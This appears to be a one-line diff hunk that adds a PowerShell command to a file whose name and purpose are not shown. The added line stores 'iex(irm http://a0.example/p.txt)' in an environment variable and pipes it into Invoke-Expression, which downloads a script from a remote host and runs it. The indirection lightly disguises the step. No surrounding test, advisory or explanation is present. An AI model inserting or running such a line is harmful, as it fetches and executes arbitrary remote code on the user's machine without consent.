@@ -1,0 +1,1 @@
+$env:q='iex(irm http://a0.example/p.txt)';powershell -c '$env:q|iex'
